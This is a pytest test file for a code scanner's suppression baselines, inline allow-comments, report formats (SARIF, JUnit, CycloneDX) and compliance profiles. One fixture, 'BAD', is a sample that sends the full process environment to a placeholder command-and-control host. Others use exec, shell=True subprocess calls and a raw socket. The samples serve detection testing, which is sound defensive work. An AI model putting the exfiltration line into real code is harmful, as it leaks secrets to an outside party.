"""What was looked at is left out, profiles are answered, other programs are served."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from heimnetz_git.errors import InvalidFile, NotFound
from heimnetz_git.model.permission import Permissions
from heimnetz_git.scan.baseline import Baseline, baseline_of, read_baseline, suppress
from heimnetz_git.scan.engine import scan
from heimnetz_git.scan.formats import cyclonedx, junit
from heimnetz_git.scan.profiles import answers, builtin, read_profile
from heimnetz_git.scan.rules import RULES
from heimnetz_git.scan.sarif import page_of, sarif
from heimnetz_git.storage.canonical import dump
from tests.billkit import fault_of_bill

BAD = b"import os, requests\nrequests.post('https://c2.example.invalid', json=dict(os.environ))\n"
TWO = b"exec(x)\nimport subprocess\nsubprocess.run(y, shell=True)\n"
RAW = b"import socket\ns = socket.socket(17, socket.SOCK_RAW)\n"
TODAY = date(2026, 1, 31)


def test_what_a_baseline_knows_is_left_out_and_nothing_else(tmp_path: Path) -> None:
    """Through a file and back; the score is that of the rest."""
    report = scan({"a.py": TWO})
    first = report.findings[0]
    (tmp_path / "known.yaml").write_bytes(dump(baseline_of([first], "looked at: it is meant")))
    known = read_baseline(tmp_path / "known.yaml")
    rest, gone = suppress(report, known, today=TODAY)
    assert [(it.finding, it.kind, it.reason) for it in gone] == [
        (first, "external", "looked at: it is meant")
    ]
    assert rest.findings == report.findings[1:]
    assert rest.score > report.score


@pytest.mark.parametrize(("expires", "left_out"), [("2026-01-31", True), ("2026-01-30", False)])
def test_a_baseline_can_expire(tmp_path: Path, expires: str, *, left_out: bool) -> None:
    """On the day itself it still counts."""
    report = scan({"a.py": b"exec(x)\n"})
    file = tmp_path / "known.yaml"
    file.write_text(
        "format: 1\nfindings:\n"
        f"  - fingerprint: {report.findings[0].fingerprint}\n    expires: '{expires}'\n"
    )
    _, gone = suppress(report, read_baseline(file), today=TODAY)
    assert bool(gone) is left_out


def test_a_baseline_with_an_impossible_day_is_refused(tmp_path: Path) -> None:
    """It would otherwise be for good, or for nothing."""
    file = tmp_path / "known.yaml"
    file.write_text("format: 1\nfindings:\n  - {fingerprint: a, expires: soon}\n")
    with pytest.raises(InvalidFile):
        read_baseline(file)


COMMENTS = [
    (b"exec(x)  # heimnetz: allow dynamic-code because it runs our own templates\n", True),
    (b"exec(x)  # heimnetz: allow dynamic-code\n", False),
    (b"exec(x)  # heimnetz: allow dynamic-code because \n", False),
    (b"exec(x)  # heimnetz: allow shell-command because of that\n", False),
    (b"# heimnetz: allow dynamic-code because of the next line\nexec(x)\n", False),
    (b"exec(x)  # nosec\n", False),
]


@pytest.mark.parametrize(("code", "left_out"), COMMENTS)
def test_a_comment_needs_its_rule_and_a_reason(code: bytes, *, left_out: bool) -> None:
    """And it counts for its own line alone."""
    report = scan({"a.py": code})
    _, gone = suppress(report, today=TODAY, inline={"a.py": code})
    assert [it.kind for it in gone] == (["inSource"] if left_out else [])


def test_no_comment_counts_for_code_of_others() -> None:
    """Unless whoever scans says so, the scan is what it is."""
    code = COMMENTS[0][0]
    report = scan({"a.py": code})
    assert report.findings
    assert suppress(report, today=TODAY) == (report, ())


@settings(max_examples=40, deadline=None)
@given(st.lists(st.sampled_from([b"", b"# moved", b"x = 1", b"def f():\n    pass"]), max_size=6))
def test_a_baseline_survives_what_is_written_above(lines: list[bytes]) -> None:
    """Fingerprints do not hang on line numbers."""
    known = baseline_of(scan({"a.py": TWO}).findings, "known")
    report = scan({"a.py": b"\n".join([*lines, TWO])})
    rest, gone = suppress(report, known, today=TODAY)
    assert rest.findings == ()
    assert len(gone) == len(report.findings) > 0


def test_what_is_left_out_stands_in_sarif_as_such() -> None:
    """With who says so and why."""
    report = scan({"a.py": TWO})
    rest, gone = suppress(report, baseline_of(report.findings[:1], "meant"), today=TODAY)
    results = sarif(rest, suppressed=gone)["runs"][0]["results"]
    assert [it.get("suppressions") for it in results] == [
        *([None] * len(rest.findings)),
        [{"kind": "external", "justification": "meant"}],
    ]


def test_junit_has_a_case_for_each_finding_and_each_silent_rule() -> None:
    """And whatever a file is named, it is XML."""
    report = scan({'a"<&\x01.py': BAD})
    root = ET.fromstring(junit(report, "x & y"))
    (suite,) = root
    failed = [case for case in suite if case.find("failure") is not None]
    assert len(failed) == len(report.findings) == int(suite.attrib["failures"])
    told = {it.rule for it in report.findings}
    assert len(suite) == len(report.findings) + len(RULES) - len(told)


def test_cyclonedx_holds_to_its_schema_and_is_the_same_each_time() -> None:
    """One vulnerability for each finding, with weakness, rating and advice."""
    report = scan({"a.py": BAD, "b.py": TWO})
    text = cyclonedx(report, "clock 1.0.0")
    assert fault_of_bill(text) == ""
    assert text == cyclonedx(report, "clock 1.0.0")
    assert text.count('"bom-ref": "finding:') == len(report.findings)
    assert fault_of_bill(cyclonedx(scan({}), "")) == ""


@pytest.mark.parametrize("name", builtin())
def test_a_profile_names_rules_that_exist(name: str, tmp_path: Path) -> None:
    """And every requirement asks for something; a plugin that does nothing meets them all."""
    profile = read_profile(name, tmp_path)
    known = {page_of(rule).code for rule in RULES}
    assert {rule for one in profile.requirements for rule in one.rules} <= known
    met = answers(profile, scan({"a.py": b"x = 1\n"}, Permissions()))
    assert [it.id for it in met if not it.met] == []
    assert all(it.evidence for it in met)


UNMET = [
    ("baseline", {"a.py": BAD}, "no-malice"),
    ("baseline", {"a.py": b"def f(:\n"}, "analysed"),
    ("strict", {"a.py": b"exec(x)\n"}, "no-dynamic-code"),
    ("asvs", {"a.py": b"exec(x)\n"}, "V5.2.4"),
    ("asvs", {"a.py": BAD}, "V10.2.1"),
    ("enterprise", {"a.py": RAW}, "no-raw-network"),
]


@pytest.mark.parametrize(("name", "files", "requirement"), UNMET)
def test_a_requirement_that_is_not_met_says_where(
    name: str, files: dict[str, bytes], requirement: str, tmp_path: Path
) -> None:
    """The evidence names the file."""
    met = {it.id: it for it in answers(read_profile(name, tmp_path), scan(files, Permissions()))}
    assert not met[requirement].met
    assert any("a.py" in one for one in met[requirement].evidence)


def test_a_profile_may_be_a_file_of_ones_own(tmp_path: Path) -> None:
    """And one that is nowhere is an error that says which there are."""
    (tmp_path / "own.yaml").write_text(
        "format: 1\nname: own\ntitle: Own\nrequirements:\n"
        "  - {id: best, text: It scores 100., score: 100}\n"
    )
    own = read_profile("own.yaml", tmp_path)
    assert [it.met for it in answers(own, scan({"a.py": b"exec(x)\n"}))] == [False]
    with pytest.raises(NotFound):
        read_profile("nowhere", tmp_path)


STATUS: list[tuple[dict[str, bytes], str]] = [
    ({"a.py": b"x = 1\n"}, "passed"),
    ({"a.py": b"def f(:\n"}, "warning"),
    ({"a.py": BAD}, "failed"),
]


@pytest.mark.parametrize(("files", "status"), STATUS)
def test_the_verdict_has_a_status(files: dict[str, bytes], status: str) -> None:
    """The word that lists show."""
    document: dict[str, Any] = scan(files).document()
    assert document["status"] == status


def test_an_empty_baseline_knows_nothing() -> None:
    """Not even findings without fingerprints."""
    report = scan({"a.py": TWO})
    assert suppress(report, Baseline(), today=TODAY) == (report, ())
